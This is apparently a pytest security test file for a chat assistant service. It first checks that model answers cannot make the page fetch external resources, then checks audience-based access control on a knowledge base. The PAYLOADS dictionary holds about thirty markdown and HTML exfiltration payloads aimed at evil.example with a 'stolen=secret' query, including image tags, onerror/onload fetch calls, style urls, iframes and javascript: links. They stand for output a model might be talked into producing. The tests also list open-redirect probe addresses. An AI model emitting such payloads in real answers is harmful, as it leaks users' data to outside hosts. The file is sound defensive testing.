"""Section K of the checklist: what a model says and what it is given to read."""

from collections.abc import Generator
from typing import Final

import httpx2
import pytest
from markdown_it import MarkdownIt
from playwright.async_api import Browser, expect

from holdfast.server.auth.principal import Principal
from holdfast.server.harmless import harmless
from holdfast.server.knowledge import audiences_of
from holdfast.support.knowledge import InvalidDocument, Knowledge, Manuscript
from holdfast.support.library import Library
from tests.browser.conftest import Writing, browser, writing
from tests.browser.visiting import PATIENCE, Visitor, visiting
from tests.server.conftest import AUTHORIZED, Opening
from tests.support.fake_openai import text

__all__ = ["browser", "writing"]

EVIL: Final = "https://evil.example/x?stolen=secret"

# What a model may be talked into saying, so that whoever reads it tells somebody else.
PAYLOADS: Final = {
    "an image": f"![chart]({EVIL})",
    "an image with a title": f'![chart](<{EVIL}> "title")',
    "an image by reference": f"![chart][one]\n\n[one]: {EVIL}",
    "an image by its own name": f"![one]\n\n[one]: {EVIL}",
    "an image by an empty reference": f"![one][]\n\n[one]: {EVIL}",
    "an image in a link": f"[![chart]({EVIL})]({EVIL})",
    "an image without a scheme": "![chart](//evil.example/x)",
    "an image in a list": f"1. one\n2. ![chart]({EVIL})",
    "an image in bold": f"**![chart]({EVIL})**",
    "an image over two lines": f"![chart\n]({EVIL})",
    "an escaped mark": f"\\\\![chart]({EVIL})",
    "a tag": f'<img src="{EVIL}">',
    "a tag after a backslash": f'\\<img src="{EVIL}">',
    "a set of sources": f'<img srcset="{EVIL} 2x"><picture><source srcset="{EVIL}"></picture>',
    "a failing image": f"<img src=x onerror=\"fetch('{EVIL}')\">",
    "a drawing": f'<svg><image href="{EVIL}"/><use href="{EVIL}#a"/></svg>',
    "a drawing that loads": f"<svg onload=\"fetch('{EVIL}')\"></svg>",
    "a style": f"<style>body {{ background: url({EVIL}) }}</style>",
    "an imported style": f"<style>@import '{EVIL}';</style>",
    "a style of an element": f'<p style="background-image: url({EVIL})">x</p>',
    "a linked style": f'<link rel="stylesheet" href="{EVIL}">',
    "a hint": f'<link rel="prefetch" href="{EVIL}"><link rel="preconnect" href="{EVIL}">',
    "a frame": f'<iframe src="{EVIL}"></iframe>',
    "a film": f'<video poster="{EVIL}" src="{EVIL}" autoplay></video><audio src="{EVIL}"></audio>',
    "an object": f'<object data="{EVIL}"></object><embed src="{EVIL}">',
    "a form": f'<form action="{EVIL}"><input type="image" src="{EVIL}"></form>',
    "a script": f'<script src="{EVIL}"></script>',
    "a refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "a base": '<base href="https://evil.example/">',
    "a script in a link": "[click](javascript:fetch('https://evil.example/x'))",
    "data in a link": "[click](data:text/html,<script>alert(1)</script>)",
}  # fmt: skip

FETCHING: Final = (
    "img, picture, source, svg, image, style, link, iframe, frame, object, embed, video, audio, "
    "script, form, input, meta, base, [style], [onerror], [onload], [src], [srcset], [background]"
)


async def _holds_nothing(visitor: Visitor, payload: str) -> None:
    """See that the last answer has no element which could fetch anything, and safe links alone."""
    bubble = visitor.answers.last.locator(".bubble")
    assert await bubble.locator(FETCHING).count() == 0, payload
    hrefs = await bubble.locator("a").evaluate_all("all => all.map(one => one.href)")
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs), payload
    # What the page asked of other sites, and what its policy refused.
    assert visitor.complaints == [], payload


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.asyncio(loop_scope="module")
async def test_security_087_an_answer_makes_the_page_ask_nobody(
    browser: Browser, writing: Writing
) -> None:
    """Not while it grows, not when it is whole, not after a reload; and nothing in it could."""
    writing.model.script.clear()
    async with visiting(browser, writing.service.url) as visitor:
        for count, (payload, said) in enumerate(PAYLOADS.items(), start=1):
            writing.model.script.append(text(f"Look: {said}\n\nThe end."))
            await visitor.ask("Show me a chart.")
            await expect(visitor.answers).to_have_count(count, timeout=PATIENCE)
            await expect(visitor.answers.last).to_contain_text("The end.", timeout=PATIENCE)
            await _holds_nothing(visitor, payload)
        await visitor.page.reload()
        await expect(visitor.answers).to_have_count(len(PAYLOADS), timeout=PATIENCE)
        assert await visitor.answers.locator(f".bubble :is({FETCHING})").count() == 0
        assert visitor.complaints == []


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.asyncio(loop_scope="module")
async def test_security_087_a_request_elsewhere_would_be_seen(
    browser: Browser, writing: Writing
) -> None:
    """The policy refuses an image from elsewhere, and the test above sees that one was wanted."""
    async with visiting(browser, writing.service.url) as visitor:
        await visitor.page.evaluate(
            "url => new Promise(end => { const image = new Image(); image.onerror = end; "
            "image.src = url; document.body.append(image) })",
            EVIL,
        )
        assert any("evil.example" in complaint for complaint in visitor.complaints)
        visitor.complaints.clear()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_security_087_a_saved_transcript_fetches_nothing(payload: str) -> None:
    """Opened by a program that shows images and HTML, it has neither; its words are all there."""
    shown = MarkdownIt("commonmark", {"html": True}).render(harmless(f"Look: {PAYLOADS[payload]}"))
    for tag in FETCHING.replace(",", "").split():
        assert f"<{tag}" not in shown, shown
    assert "Look:" in shown


def test_security_087_what_is_no_image_stays() -> None:
    """Links, lists, emphasis, comparisons and exclamations are not touched."""
    for plain in ("Wow! [Read](https://a.example)", "a < b > c", "- *one*\n- **two**", "`!x`"):
        assert harmless(plain) == plain


@pytest.mark.parametrize(
    "address",
    [
        "/?url=https://evil.example", "/?next=//evil.example", "//evil.example",
        "/https://evil.example", "/redirect?to=https://evil.example", "/v1/chat/sessions/",
        "/%2f%2fevil.example", "/\\evil.example", "/assets/..%2f..%2fevil.example",
        "/proxy?url=https://evil.example", "/image?src=https://evil.example",
    ],
)  # fmt: skip
async def test_security_087_our_own_origin_sends_nobody_elsewhere(
    opening: Opening, address: str
) -> None:
    """No address redirects to another site, or fetches it for the caller."""
    async with opening() as client:
        for method in ("GET", "POST"):
            answer = await client.request(method, f"http://127.0.0.1{address}")
            location = answer.headers.get("location", "")
            assert "evil.example" not in httpx2.URL(location or "/").host
            assert answer.status_code != 502


@pytest.fixture
def mixed() -> Generator[Knowledge]:
    """Articles for everybody, for the staff, for administrators, and for one user."""
    with Knowledge() as knowledge:
        for audience in ("public", "staff", "admin", "user:u-anna"):
            content = f"# Refund rules\n\nA refund of the {audience} kind. Quagga{len(audience)}."
            name = audience.replace(":", "-")
            knowledge.add(Manuscript(document_id=name, content=content, audience=audience))
        yield knowledge


ANNA: Final = Principal("user", user_id="u-anna", roles=frozenset({"visitor"}))
BERT: Final = Principal("user", user_id="u-bert", roles=frozenset({"visitor"}))
STAFF: Final = Principal("user", user_id="u-staff", roles=frozenset({"staff"}))
ADMIN: Final = Principal("user", user_id="u-admin", roles=frozenset({"admin"}))
READS: Final = Principal("service", scopes=frozenset({"sessions:read"}))
WRITES: Final = Principal("service", scopes=frozenset({"knowledge:write"}))

SEEN: Final[list[tuple[Principal | None, set[str]]]] = [
    (None, {"public"}),
    (ANNA, {"public", "user-u-anna"}),
    (BERT, {"public"}),
    (STAFF, {"public", "staff"}),
    (ADMIN, {"public", "staff", "admin"}),
    (READS, {"public"}),
    (WRITES, {"public", "staff", "admin"}),
]


@pytest.mark.parametrize(("caller", "seen"), SEEN)
def test_security_088_everybody_finds_what_is_for_them(
    mixed: Knowledge, caller: Principal | None, seen: set[str]
) -> None:
    """Search, list and reading agree; what is for others is found by no way, one after another."""
    for _ in range(2):
        for other, others in SEEN:
            # Whatever was asked before by whomever is not answered from memory.
            found = mixed.search("refund rules", limit=50, audiences=audiences_of(other))
            assert {passage.document_id for passage in found.passages} == others
        audiences = audiences_of(caller)
        listed = {document.id for document in mixed.documents(audiences=audiences)}
        assert listed == seen
        for name in ("public", "staff", "admin", "user-u-anna"):
            assert bool(mixed.passages(name, audiences=audiences)) == (name in seen)
            assert bool(mixed.document(name, audiences=audiences)) == (name in seen)


def test_security_088_documents_of_others_leave_no_trace(mixed: Knowledge) -> None:
    """Scores and confidence are those of a knowledge base that never had them."""
    with Knowledge() as alone:
        content = "# Refund rules\n\nA refund of the public kind. Quagga6."
        alone.add(Manuscript(document_id="public", content=content))
        for question in ("refund rules", "Quagga5", "quagga6 refund", "admin refund", "staff kind"):
            there, here = mixed.search(question), alone.search(question)
            assert there.passages == here.passages
            assert there.evidence == here.evidence


@pytest.mark.parametrize("audience", ["", "Staff", "everybody", "public, staff", "user:", "user"])
def test_security_088_a_misspelt_audience_is_refused(audience: str) -> None:
    """It is neither taken for everybody nor for nobody."""
    content = f"---\naudience: {audience}\n---\n# Secret\n\nText."
    with Knowledge() as knowledge:
        with pytest.raises(InvalidDocument, match="audience"):
            knowledge.add(Manuscript(document_id="secret", content=content))
        assert knowledge.documents() == []


def test_security_088_the_agent_finds_and_reads_what_is_public(mixed: Knowledge) -> None:
    """What a visitor makes it look for is not there, nor what was public a moment ago."""
    library = Library(mixed)
    found = library.search("refund of the staff kind, refund of the admin kind")
    assert {passage.document_id for _, passage in found.passages} == {"public"}
    number = found.passages[0][0]
    content = "# Refund rules\n\nNot any more."
    mixed.add(Manuscript(document_id="public", content=content, audience="staff"))
    assert library.read(number) == ()


async def test_security_088_rest_answers_by_the_callers_role(opening: Opening) -> None:
    """Without credentials the public part; with a key for all, what the staff may see."""
    async with opening(headers={}) as client:
        knowledge: Knowledge = client.app.state.service.knowledge  # type: ignore[attr-defined]
        for audience in ("public", "staff", "user:somebody"):
            content = f"# Refund rules\n\nA refund of the {audience} kind."
            name = f"refunds/{audience.partition(':')[0]}"
            knowledge.add(Manuscript(document_id=name, content=content, audience=audience))
        for headers, seen in (
            ({}, {"public"}),
            (AUTHORIZED, {"public", "staff"}),
            ({}, {"public"}),
        ):
            names = {f"refunds/{name}" for name in seen}
            listed = await client.get("/v1/knowledge/documents", headers=headers)
            assert {each["document_id"] for each in listed.json()["documents"]} == names
            found = await client.post(
                "/v1/knowledge/search", json={"query": "refund rules"}, headers=headers
            )
            assert {each["document_id"] for each in found.json()["passages"]} == names
            for name in ("public", "staff", "user", "none"):
                shown = await client.get(f"/v1/knowledge/documents/refunds/{name}", headers=headers)
                assert shown.status_code == (200 if name in seen else 404)
                if name not in seen:
                    assert shown.json()["code"] == "DOCUMENT_NOT_FOUND"
                    assert name not in shown.json()["detail"]
